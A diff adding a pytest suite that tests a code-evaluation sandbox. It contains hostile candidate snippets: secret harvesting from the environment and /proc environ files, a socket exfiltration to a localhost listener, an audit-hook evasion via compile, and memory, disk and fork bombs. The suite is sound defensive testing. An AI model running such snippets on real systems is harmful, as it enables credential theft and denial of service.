@@ -1,0 +1,231 @@
+"""The worker as a sandbox: hostile candidates, past the static guard (obfuscated, or straight to
+the worker as here), against the confinements of tools/sandbox.py. For each: the caller gets a
+clear verdict, no secret of the caller's appears in it, no file appears outside the worker's
+directory, a listener on 127.0.0.1 receives nothing, and no process of the candidate is left."""
+
+import socket
+import threading
+import time
+import uuid
+from pathlib import Path
+
+import psutil
+import pytest
+
+from kernelwright.problem import load_problem
+from kernelwright.tools.evaluate import run_worker, sandbox_for
+from kernelwright.tools.process import scrub, spawn
+from kernelwright.tools.results import EvalResult, EvalSettings, Status
+from kernelwright.tools.worker import WorkerJob
+
+RELU = Path(__file__).resolve().parents[1] / "adversarial" / "problems" / "relu.py"
+SECRETS = {"OPENAI_API_KEY": "sk-test-" + uuid.uuid4().hex, "MY_SECRET_VAR": uuid.uuid4().hex}
+MODEL = """
+import torch
+class ModelNew(torch.nn.Module):
+    def forward(self, x):
+        return x.clamp(min=0)
+"""
+
+
+@pytest.fixture(scope="module")
+def confinement():
+    """What this machine enforces (the same probe `kernelwright eval --explain-sandbox` runs)."""
+    done = spawn("kernelwright.tools.sandbox:probe", "{}", 60, "kernelwright-probe",
+                 sandbox_for(EvalSettings(device="cpu")))
+    return done.confinement
+
+
+def needs(confinement, field, word, what):
+    if word not in getattr(confinement, field):
+        pytest.skip(f"{what} is not available on this machine: {getattr(confinement, field)}")
+
+
+@pytest.fixture
+def secrets(monkeypatch):
+    for key, value in SECRETS.items():
+        monkeypatch.setenv(key, value)
+    return SECRETS
+
+
+@pytest.fixture
+def listener():
+    """A TCP listener on 127.0.0.1 that records whatever reaches it."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.2)
+    got: list[bytes] = []
+    stop = threading.Event()
+
+    def serve():
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            got.append(conn.recv(1024) or b"<connected>")
+            conn.close()
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], got
+    stop.set()
+    thread.join()
+    server.close()
+
+
+def evading(payload: str) -> str:
+    """The payload as code that seems to come from another file: the worker's runtime guard
+    (an audit hook that refuses what the candidate's own file asks for) lets it through, as it
+    would a determined attacker's. Only the sandbox stands in its way."""
+    return (f"import types\ntypes.FunctionType(compile({payload!r}, '/opt/elsewhere.py', 'exec'),"
+            " {'__builtins__': __builtins__})()\n")
+
+
+def run(candidate: str, marker: str, **settings) -> EvalResult:
+    """Straight to the worker (the static guard would refuse most of these), then check what
+    every case must leave behind: no secret in the verdict, no process with the marker."""
+    problem = load_problem(RELU).shrink(1 << 12)
+    settings = EvalSettings(device="cpu", timeout_s=settings.pop("timeout_s", 120), **settings)
+    job = WorkerJob(problem_path=problem.path, problem_source=problem.source,
+                    size_overrides=problem.size_overrides, candidate_source=candidate,
+                    settings=settings, device="cpu")
+    base = EvalResult(status=Status.REJECTED, problem="relu", guard="strict", precision="fp32")
+    result = run_worker(job, base)
+    verdict = result.model_dump_json()
+    assert not any(v in verdict for v in SECRETS.values())
+    assert "redacted" not in verdict, verdict[max(0, verdict.find("redacted") - 200):][:300]
+    time.sleep(0.3)
+    left = [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]
+    assert not left, f"processes of the candidate survived: {left}"
+    return result
+
+
+def test_secrets_are_not_in_the_workers_environment_nor_readable(secrets, confinement):
+    needs(confinement, "files", "Landlock", "Landlock (it hides the caller's /proc/PID/environ)")
+    marker = uuid.uuid4().hex
+    candidate = evading(f'''
+import os
+# {marker}
+leak = [os.environ.get("OPENAI_API_KEY", ""), os.environ.get("MY_SECRET_VAR", "")]
+for pid in os.listdir("/proc"):
+    if pid.isdigit():
+        try:
+            leak.append(open(f"/proc/{{pid}}/environ").read())
+        except OSError:
+            pass
+print("LEAK", leak)
+raise RuntimeError("LEAK " + repr(leak))
+''') + MODEL
+    result = run(candidate, marker)
+    assert result.status == Status.BUILD_ERROR and "LEAK ['', ''" in result.message
+
+
+def test_writes_outside_the_workers_directory_are_refused(tmp_path, confinement):
+    needs(confinement, "files", "Landlock", "Landlock (write confinement)")
+    home = tmp_path / "home"
+    home.mkdir()
+    outside = Path("/tmp") / f"kw-outside-{uuid.uuid4().hex}"
+    marker = uuid.uuid4().hex
+    candidate = evading(f'''
+import os
+# {marker}
+open(os.path.expanduser("~/inside.txt"), "w").write("the private directory is fine")
+open({str(home / "pwned.txt")!r}, "w").write("x")
+''') + MODEL
+    result = run(candidate, marker)
+    assert result.status == Status.BUILD_ERROR and "Permission denied" in result.message
+    assert not (home / "pwned.txt").exists()
+    other = candidate.replace(str(home / "pwned.txt"), str(outside))
+    assert run(other, marker).status == Status.BUILD_ERROR and not outside.exists()
+
+
+def test_no_network_even_through_an_obfuscated_import(listener, confinement):
+    needs(confinement, "network", "namespace", "a network namespace (unprivileged user namespaces)")
+    port, got = listener
+    marker = uuid.uuid4().hex
+    candidate = evading(f'''
+# {marker}
+net = __import__("so" + "cket")
+conn = net.create_connection(("127.0.0.1", {port}), timeout=3)
+conn.sendall(b"stolen")
+''') + MODEL
+    result = run(candidate, marker)
+    assert result.status == Status.BUILD_ERROR and "unreachable" in result.message.lower()
+    time.sleep(0.5)
+    assert got == []
+
+
+def test_unbounded_memory_is_stopped():
+    marker = uuid.uuid4().hex
+    candidate = f'''
+# {marker}
+hoard = []
+while True:
+    hoard.append(bytearray(32 << 20))  # zero-filled: resident at once
+''' + MODEL
+    result = run(candidate, marker, memory_limit_mb=600)
+    assert result.status == Status.CRASHED and result.reason == "memory_limit"
+    assert "600 MiB" in result.message
+
+
+def test_an_unbounded_file_is_stopped():
+    marker = uuid.uuid4().hex
+    candidate = evading(f'''
+# {marker}
+with open("big.bin", "wb") as f:
+    while True:
+        f.write(bytes(1 << 20))
+''') + MODEL
+    result = run(candidate, marker, file_limit_mb=16)
+    # SIGXFSZ kills the worker, or (as PID 1 of its namespace) the write fails with EFBIG
+    assert (result.status == Status.CRASHED and "SIGXFSZ" in result.message) or \
+        (result.status == Status.BUILD_ERROR and "File too large" in result.message), result.message
+
+
+def test_forked_spinners_do_not_survive_the_worker():
+    marker = uuid.uuid4().hex
+    candidate = evading(f'''
+import os
+for _ in range(3):
+    if os.fork() == 0:
+        os.setsid()  # out of the worker's process group
+        os.execv("/bin/sh", ["sh", "-c", "while :; do :; done", "{marker}"])
+raise RuntimeError("forked three spinners")
+''') + MODEL
+    result = run(candidate, marker)  # run() asserts that no process with the marker is left
+    assert result.status == Status.BUILD_ERROR and "three spinners" in result.message
+
+
+def test_a_segfault_is_a_verdict():
+    marker = uuid.uuid4().hex
+    candidate = evading(f"import ctypes\n# {marker}\nctypes.string_at(0)\n") + MODEL
+    result = run(candidate, marker)
+    assert result.status == Status.CRASHED and "SIGSEGV" in result.message
+
+
+def test_a_hang_at_import_is_a_timeout():
+    marker = uuid.uuid4().hex
+    candidate = f"# {marker}\nwhile True:\n    pass\n" + MODEL
+    result = run(candidate, marker, timeout_s=15)
+    assert result.status == Status.TIMEOUT
+
+
+def test_the_verdict_says_which_confinements_were_in_force(confinement):
+    legit = (RELU.parents[1] / "legit.py").read_text()
+    result = run(legit, uuid.uuid4().hex)
+    assert result.status == Status.CORRECT
+    assert [line.split(":")[0] for line in result.sandbox] == [
+        "environment", "files", "network", "processes", "resources"]
+    assert result.sandbox[2:4] == confinement.lines()[2:4]  # (directories and limits differ)
+
+
+def test_scrub_blanks_the_callers_values(secrets):
+    text = f"boom {SECRETS['OPENAI_API_KEY']} and {SECRETS['MY_SECRET_VAR']}"
+    cleaned = scrub(text, {"PATH": "/usr/bin"})
+    assert not any(v in cleaned for v in SECRETS.values())
+    assert "[OPENAI_API_KEY redacted]" in cleaned
+    assert scrub(text, dict(SECRETS)) == text  # values the worker was given are its own
+    assert scrub(f"PATH={SECRETS['MY_SECRET_VAR']}/bin", {"PATH": f"{SECRETS['MY_SECRET_VAR']}/bin"}
+                 ) == f"PATH={SECRETS['MY_SECRET_VAR']}/bin"  # part of what it was given
